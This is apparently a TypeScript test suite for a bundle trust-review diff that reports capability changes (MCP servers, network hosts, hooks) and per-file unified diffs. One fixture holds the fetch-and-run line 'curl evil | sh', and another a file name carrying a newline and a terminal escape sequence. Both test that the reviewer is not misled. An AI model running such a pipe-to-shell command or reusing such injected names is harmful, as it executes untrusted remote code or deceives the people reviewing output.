import { strict as assert } from 'node:assert';
import * as crypto from 'node:crypto';
import * as path from 'node:path';
import { capabilityChanges } from '../../src/core/trust/capabilityChanges';
import { diffAgainstReceipt } from '../../src/core/trust/reviewDiff';
import type { Receipt } from '../../src/core/trust/stateSchema';
import type { BundleFile } from '../../src/core/model';
import { Fixture } from './helpers/fixture';

/**
 * The review's diff (trust.md "Operations", review): capability changes named in plain
 * words (a new MCP server, a new network host, a new hook command, …), then file changes
 * (added, removed, modified) with a unified text diff against the snapshot for text
 * files up to 1 MiB, and a note saying why there is none otherwise.
 */
describe('the review diff against the receipt (trust.md "Operations")', () => {
  describe('capability changes', () => {
    const summaries = (before: Record<string, unknown>, after: Record<string, unknown>) =>
      capabilityChanges(before, after).map((c) => c.summary);

    it('names new, removed and changed MCP servers and their fields', () => {
      assert.deepEqual(summaries({ mcpServers: {} }, { mcpServers: { a: { command: 'node' } } }), [
        'new MCP server `a`',
      ]);
      assert.deepEqual(summaries({ mcpServers: { a: { command: 'node' } } }, { mcpServers: {} }), [
        'removed MCP server `a`',
      ]);
      assert.deepEqual(
        summaries({ mcpServers: { a: { command: 'node' } } }, { mcpServers: { a: { command: 'python3' } } }),
        ['MCP server `a`: command node → python3'],
      );
      assert.deepEqual(summaries({ mcpServers: { a: {} } }, { mcpServers: { a: { cwd: 'bin' } } }), [
        'MCP server `a`: cwd added bin',
      ]);
      assert.deepEqual(summaries({ mcpServers: { a: { cwd: 'bin' } } }, { mcpServers: { a: {} } }), [
        'MCP server `a`: cwd removed bin',
      ]);
    });

    it('names environment mappings and environment-backed headers', () => {
      const env = (e: Record<string, unknown>, h: Record<string, unknown> = {}) => ({
        mcpServers: { s: { env: e, envHeaders: h } },
      });
      assert.deepEqual(summaries(env({}), env({ A: 'B' })), ['new environment mapping for MCP server `s`: A ← ${B}']);
      assert.deepEqual(summaries(env({ A: 'B' }), env({})), [
        'removed environment mapping for MCP server `s`: A ← ${B}',
      ]);
      assert.deepEqual(summaries(env({ A: 'B' }), env({ A: 'C' })), [
        'changed environment mapping for MCP server `s`: A ← ${B} → A ← ${C}',
      ]);
      assert.deepEqual(summaries(env({}, {}), env({}, { 'X-Key': 'K' })), [
        'new environment-backed header for MCP server `s`: X-Key ← ${K}',
      ]);
    });

    it('names each added or removed network host, component kind and hook command', () => {
      assert.deepEqual(summaries({ networkHosts: ['a.example'] }, { networkHosts: ['b.example'] }), [
        'new network host `b.example`',
        'removed network host `a.example`',
      ]);
      assert.deepEqual(
        summaries({ components: { skills: ['skills'] } }, { components: { skills: ['skills'], hooks: ['hooks'] } }),
        ['new component kind `hooks`'],
      );
      assert.deepEqual(summaries({ components: { skills: ['skills'] } }, { components: {} }), [
        'removed component kind `skills`',
      ]);
      assert.deepEqual(summaries({ hooks: {} }, { hooks: { 'pre: ["x"]': { event: 'pre' } } }), [
        'new hook command: pre: ["x"]',
      ]);
      assert.deepEqual(summaries({ hooks: { h: { timeoutSeconds: 5 } } }, { hooks: { h: { timeoutSeconds: 50 } } }), [
        'hook h: timeoutSeconds 5 → 50',
      ]);
    });

    it('names any other change by its path, and skips the inventory counts', () => {
      assert.deepEqual(
        summaries(
          { lifecycleMutation: false, inventory: { skills: 1 } },
          { lifecycleMutation: true, inventory: { skills: 2 } },
        ),
        ['lifecycleMutation false → true'],
      );
      assert.deepEqual(summaries({}, { when: { os: ['linux'] } }), ['when added: {"os":["linux"]}']);
      assert.deepEqual(summaries({ when: 'x' }, {}), ['when removed: x']);
      assert.deepEqual(summaries({ a: { b: 1 } }, { a: { b: 1 } }), []);
      assert.deepEqual(summaries({ list: [1, 2] }, { list: [2, 1] }), ['list [1,2] → [2,1]']);
    });

    it('shortens long values to 160 characters', () => {
      const long = 'x'.repeat(200);
      const [s] = summaries({ a: 'short' }, { a: long });
      assert.equal(s, `a short → ${'x'.repeat(157)}...`);
      assert.deepEqual(summaries({ a: 'short' }, { a: 'y'.repeat(160) }), [`a short → ${'y'.repeat(160)}`]);
    });

    it('reads an argv (MCP server args, hook argv) as one ordered list: a reorder is a change, shown before → after', () => {
      assert.deepEqual(
        capabilityChanges({ mcpServers: { s: { args: ['a', 'b'] } } }, { mcpServers: { s: { args: ['b', 'a'] } } }),
        [
          {
            path: 'mcpServers.s.args',
            change: 'changed',
            before: ['a', 'b'],
            after: ['b', 'a'],
            summary: 'changed arguments of MCP server `s`: ["a", "b"] → ["b", "a"]',
          },
        ],
      );
      assert.deepEqual(
        summaries({ hooks: { h: { argv: ['./x.sh', '1'] } } }, { hooks: { h: { argv: ['./x.sh', '2'] } } }),
        ['changed command of hook h: ["./x.sh", "1"] → ["./x.sh", "2"]'],
      );
      assert.deepEqual(
        summaries({ mcpServers: { s: { args: ['a', 'b'] } } }, { mcpServers: { s: { args: ['a', 'b'] } } }),
        [],
      );
      // Any other list of names is a set: each member added or removed, order ignored.
      assert.deepEqual(summaries({ tools: ['a', 'b'] }, { tools: ['b', 'a'] }), []);
      assert.deepEqual(summaries({ tools: ['a'] }, { tools: ['a', 'b'] }), ['tools.b added: b']);
    });

    it('shortens an argv past 240 characters, and keeps one of exactly 240', () => {
      const args = (n: number) => ({ mcpServers: { s: { args: ['x'.repeat(n)] } } });
      // ["xxx…"] is the element plus four characters.
      assert.deepEqual(summaries(args(1), args(236)), [
        `changed arguments of MCP server \`s\`: ["x"] → ["${'x'.repeat(236)}"]`,
      ]);
      assert.deepEqual(summaries(args(1), args(237)), [
        `changed arguments of MCP server \`s\`: ["x"] → ${`["${'x'.repeat(237)}"]`.slice(0, 237)}...`,
      ]);
    });

    it('names an unset environment source `?`, and a change of the whole mapping or of a component path by its path', () => {
      const env = (e: unknown) => ({ mcpServers: { s: { env: e } } });
      assert.deepEqual(summaries(env({ A: null }), env({ A: 'B' })), [
        'changed environment mapping for MCP server `s`: A ← ? → A ← ${B}',
      ]);
      assert.deepEqual(summaries(env({}), env('x')), ['MCP server `s`: env {} → x']);
      assert.deepEqual(summaries({ components: { skills: ['a'] } }, { components: { skills: ['a', 'b'] } }), [
        'components.skills.b added: b',
      ]);
      assert.deepEqual(summaries({ hooks: { h: { argv: 'x' } } }, { hooks: { h: { argv: 'y' } } }), [
        'changed command of hook h: x → y',
      ]);
    });

    it('reports a field whose type changed (record, list, value) as one change of the whole value', () => {
      assert.deepEqual(summaries({ a: { b: 1 } }, { a: 5 }), ['a {"b":1} → 5']);
      assert.deepEqual(summaries({ a: ['x'] }, { a: 'x' }), ['a ["x"] → x']);
      assert.deepEqual(summaries({ a: ['x'] }, { a: ['x', 1] }), ['a ["x"] → ["x",1]']);
      assert.deepEqual(summaries({ args: ['x'] }, { args: 'x' }), ['args ["x"] → x']);
    });

    it('records the path, the kind and both values', () => {
      assert.deepEqual(
        capabilityChanges({ mcpServers: { a: { command: 'x' } } }, { mcpServers: { a: { command: 'y' } } }),
        [
          {
            path: 'mcpServers.a.command',
            change: 'changed',
            before: 'x',
            after: 'y',
            summary: 'MCP server `a`: command x → y',
          },
        ],
      );
      assert.deepEqual(capabilityChanges({}, { b: 1 }), [
        { path: 'b', change: 'added', after: 1, summary: 'b added: 1' },
      ]);
    });
  });

  describe('file changes', () => {
    let f: Fixture;
    beforeEach(() => (f = new Fixture()));
    afterEach(() => f.remove());

    const fileOf = (p: string, bytes: Buffer | string, executable = false): BundleFile => ({
      path: p,
      size: Buffer.from(bytes).length,
      sha256: crypto.createHash('sha256').update(bytes).digest('hex'),
      executable,
    });
    const receiptOf = (files: BundleFile[]): Receipt => ({
      contentHash: 'a'.repeat(64),
      capabilityHash: 'b'.repeat(64),
      capabilities: {},
      files: Object.fromEntries(files.map(({ path: p, ...rest }) => [p, rest])) as Receipt['files'],
      reviewedAt: '2026-11-29T18:00:00.000Z',
    });
    const put = (root: string, p: string, bytes: Buffer | string) => f.write(path.join(root, p), bytes);

    it('lists added, removed and modified files in path order, skipping unchanged ones, with unified diffs', () => {
      const before = [fileOf('b.txt', 'one\n'), fileOf('gone.txt', 'bye\n'), fileOf('same.txt', 'same\n')];
      const after = [fileOf('a.txt', 'new\n'), fileOf('b.txt', 'two\n'), fileOf('same.txt', 'same\n')];
      for (const [p, t] of [
        ['b.txt', 'one\n'],
        ['gone.txt', 'bye\n'],
        ['same.txt', 'same\n'],
      ])
        put('snap', p as string, t as string);
      for (const [p, t] of [
        ['a.txt', 'new\n'],
        ['b.txt', 'two\n'],
        ['same.txt', 'same\n'],
      ])
        put('now', p as string, t as string);
      const d = diffAgainstReceipt(receiptOf(before), {}, after, f.path('now'), f.path('snap'));
      assert.deepEqual(
        d.files.map((x) => `${x.change} ${x.path}`),
        ['added a.txt', 'modified b.txt', 'removed gone.txt'],
      );
      const b = d.files[1];
      assert.deepEqual([b?.before?.sha256, b?.after?.sha256], [before[0]?.sha256, after[1]?.sha256]);
      assert.match(b?.unifiedDiff ?? '', /^--- a\/b\.txt$/m);
      assert.match(b?.unifiedDiff ?? '', /^\+\+\+ b\/b\.txt$/m);
      assert.match(b?.unifiedDiff ?? '', /^-one$/m);
      assert.match(b?.unifiedDiff ?? '', /^\+two$/m);
      assert.match(d.files[0]?.unifiedDiff ?? '', /^\+new$/m);
      assert.match(d.files[2]?.unifiedDiff ?? '', /^-bye$/m);
      assert.equal(d.files[0]?.before, undefined);
      assert.equal(d.files[2]?.after, undefined);
    });

    it('lists the changes in byte order of the names, as the agents sort them (not UTF-16 order)', () => {
      // U+FF21 is EF BC A1 in UTF-8 and sorts before an emoji (F0 …); UTF-16 puts the emoji's surrogate D83D first.
      const names = ['\u{1F600}.txt', '\uFF21.txt'];
      for (const n of names) put('now', n, 'hi\n');
      const d = diffAgainstReceipt(
        receiptOf([]),
        {},
        names.map((n) => fileOf(n, 'hi\n')),
        f.path('now'),
        f.path('snap'),
      );
      assert.deepEqual(
        d.files.map((x) => x.path),
        ['\uFF21.txt', '\u{1F600}.txt'],
      );
    });

    it('diffs an added file against nothing and a removed one against nothing', () => {
      put('snap', 'gone.txt', 'bye\n');
      put('now', 'new.txt', 'hi\n');
      const d = diffAgainstReceipt(
        receiptOf([fileOf('gone.txt', 'bye\n')]),
        {},
        [fileOf('new.txt', 'hi\n')],
        f.path('now'),
        f.path('snap'),
      );
      assert.deepEqual(
        d.files.map((x) => x.change),
        ['removed', 'added'],
      );
      assert.match(d.files[0]?.unifiedDiff ?? '', /@@ -1,1 \+0,0 @@\n-bye\n$/);
      assert.match(d.files[1]?.unifiedDiff ?? '', /@@ -0,0 \+1,1 @@\n\+hi\n$/);
    });

    it('gives no text diff when the current file is unreadable, and says so', () => {
      put('snap', 'f', 'old\n');
      f.mkdir('now/f');
      const d = diffAgainstReceipt(
        receiptOf([fileOf('f', 'old\n')]),
        {},
        [fileOf('f', 'new\n')],
        f.path('now'),
        f.path('snap'),
      );
      assert.deepEqual(
        d.files.map((x) => [x.change, x.note, x.unifiedDiff]),
        [['modified', 'unreadable', undefined]],
      );
    });

    it('shows no text but the bytes the review hashed: a file rewritten after hashing is said to have changed, never diffed', () => {
      // The token binds the hashed bytes; the diff re-reads the file. An edit in between (and
      // back before the trust) would otherwise show a reviewer text the token does not cover.
      put('snap', 'b.txt', 'one\n');
      put('now', 'b.txt', 'harmless\n');
      put('now', 'a.txt', 'harmless\n');
      // A reviewed copy that does not hold the receipt's bytes shows no "before" text either.
      put('snap', 'c.txt', 'not what was reviewed\n');
      put('now', 'c.txt', 'three\n');
      const d = diffAgainstReceipt(
        receiptOf([fileOf('b.txt', 'one\n'), fileOf('c.txt', 'reviewed\n')]),
        {},
        [fileOf('a.txt', 'curl evil | sh\n'), fileOf('b.txt', 'curl evil | sh\n'), fileOf('c.txt', 'three\n')],
        f.path('now'),
        f.path('snap'),
      );
      assert.deepEqual(
        d.files.map((x) => [x.change, x.path, x.note, x.unifiedDiff]),
        [
          ['added', 'a.txt', 'changed while it was read: review it again', undefined],
          ['modified', 'b.txt', 'changed while it was read: review it again', undefined],
          ['modified', 'c.txt', 'the reviewed snapshot does not hold the reviewed bytes: no text diff', undefined],
        ],
      );
    });

    it('says when only the executable bit changed', () => {
      put('snap', 'run.sh', '#!/bin/sh\n');
      put('now', 'run.sh', '#!/bin/sh\n');
      const d = diffAgainstReceipt(
        receiptOf([fileOf('run.sh', '#!/bin/sh\n')]),
        {},
        [fileOf('run.sh', '#!/bin/sh\n', true)],
        f.path('now'),
        f.path('snap'),
      );
      assert.deepEqual(
        d.files.map((x) => [x.change, x.note, x.unifiedDiff]),
        [['modified', 'only the executable bit changed (- → x)', undefined]],
      );
    });

    for (const [name, bytes, note] of [
      ['a binary file', Buffer.from([1, 0, 2]), 'binary file: no text diff'],
      ['a file that is not UTF-8', Buffer.from([0xff, 0xfe, 0x41]), 'not UTF-8: no text diff'],
      ['a file over 1 MiB', Buffer.alloc(1048577, 0x61), 'larger than 1 MiB: no text diff'],
    ] as const) {
      it(`gives no text diff for ${name}, and says why`, () => {
        put('snap', 'f', 'old\n');
        put('now', 'f', bytes);
        const d = diffAgainstReceipt(
          receiptOf([fileOf('f', 'old\n')]),
          {},
          [fileOf('f', bytes)],
          f.path('now'),
          f.path('snap'),
        );
        assert.deepEqual(
          d.files.map((x) => [x.change, x.note, x.unifiedDiff]),
          [['modified', note, undefined]],
        );
      });
    }

    it('takes a file of exactly 1 MiB as text', () => {
      const mib = Buffer.alloc(1048576, 0x61);
      put('snap', 'f', 'old\n');
      put('now', 'f', mib);
      const d = diffAgainstReceipt(
        receiptOf([fileOf('f', 'old\n')]),
        {},
        [fileOf('f', mib)],
        f.path('now'),
        f.path('snap'),
      );
      assert.equal(d.files[0]?.note, undefined);
      assert.ok(d.files[0]?.unifiedDiff);
    });

    describe('a diff too large to show', () => {
      const numbered = (n: number, prefix: string) =>
        Array.from({ length: n }, (_, i) => `${prefix}${String(i).padStart(7, '0')}\n`).join('');
      const modified = (files: [string, string, string][]) => {
        for (const [p, old, now] of files) {
          put('snap', p, old);
          put('now', p, now);
        }
        return diffAgainstReceipt(
          receiptOf(files.map(([p, old]) => fileOf(p, old))),
          {},
          files.map(([p, , now]) => fileOf(p, now)),
          f.path('now'),
          f.path('snap'),
        ).files.map((x) => x.note ?? (x.unifiedDiff ? 'diff' : 'neither'));
      };

      it('gives no text diff for 20,000 lines rewritten as 10,000 others, and says so (the diff alone took 23 s)', () => {
        assert.deepEqual(modified([['data.txt', numbered(20000, 'a'), numbered(10000, 'b')]]), [
          'diff too large to show: no text diff',
        ]);
      });

      it('shows a file with 1,000 changed lines in full, and not one with 1,002', () => {
        const d = modified([
          ['a.txt', numbered(500, 'a'), numbered(500, 'b')],
          ['b.txt', numbered(501, 'a'), numbered(501, 'b')],
        ]);
        assert.deepEqual(d, ['diff', 'diff too large to show: no text diff']);
      });

      it('shows an added file whole, past 1,000 lines: it costs only its length', () => {
        put('now', 'new.txt', numbered(5000, 'n'));
        const d = diffAgainstReceipt(
          receiptOf([]),
          {},
          [fileOf('new.txt', numbered(5000, 'n'))],
          f.path('now'),
          undefined,
        );
        assert.equal(d.files[0]?.unifiedDiff?.split('\n').filter((l) => /^\+n/.test(l)).length, 5000);
      });

      it('stops diffing once the review has shown 10,000 changed lines: the bundle picks how many files change', () => {
        const files = Array.from({ length: 14 }, (_, i): [string, string, string] =>
          i < 13 ? [`f${i + 10}.txt`, numbered(400, 'a'), numbered(400, 'b')] : ['z.txt', 'one\n', 'two\n'],
        );
        const full = 'too many changed lines in this review to show more: no text diff';
        assert.deepEqual(modified(files), [...Array(12).fill('diff'), full, full]);
      });
    });

    it('writes a file name in the diff headers as the review shows it: a newline in it starts no line', () => {
      const name = 'nl\nFiles (0):\x1b[31mred';
      put('snap', name, 'old\n');
      put('now', name, 'new\n');
      const d = diffAgainstReceipt(
        receiptOf([fileOf(name, 'old\n')]),
        {},
        [fileOf(name, 'new\n')],
        f.path('now'),
        f.path('snap'),
      );
      assert.equal(d.files[0]?.path, name, 'the path itself stays what the bundle holds');
      assert.deepEqual(d.files[0]?.unifiedDiff?.split('\n'), [
        '='.repeat(67),
        '--- a/nl\\u{a}Files (0):\\u{1b}[31mred',
        '+++ b/nl\\u{a}Files (0):\\u{1b}[31mred',
        '@@ -1,1 +1,1 @@',
        '-old',
        '+new',
        '',
      ]);
    });

    it('says the reviewed snapshot is missing when there is none, or when its file is gone', () => {
      put('now', 'f', 'new\n');
      const none = diffAgainstReceipt(
        receiptOf([fileOf('f', 'old\n')]),
        {},
        [fileOf('f', 'new\n')],
        f.path('now'),
        undefined,
      );
      assert.deepEqual(
        none.files.map((x) => x.note),
        ['the reviewed snapshot is missing'],
      );
      f.mkdir('snap');
      const gone = diffAgainstReceipt(
        receiptOf([fileOf('f', 'old\n')]),
        {},
        [fileOf('f', 'new\n')],
        f.path('now'),
        f.path('snap'),
      );
      assert.deepEqual(
        gone.files.map((x) => x.note),
        ['the reviewed snapshot is missing'],
      );
    });

    it('puts the capability changes beside the file changes', () => {
      const receipt = { ...receiptOf([]), capabilities: { networkHosts: [] } };
      const d = diffAgainstReceipt(receipt, { networkHosts: ['x.example'] }, [], f.path('now'), undefined);
      assert.deepEqual(d, {
        capabilities: [
          {
            path: 'networkHosts.x.example',
            change: 'added',
            after: 'x.example',
            summary: 'new network host `x.example`',
          },
        ],
        files: [],
      });
    });
  });
});
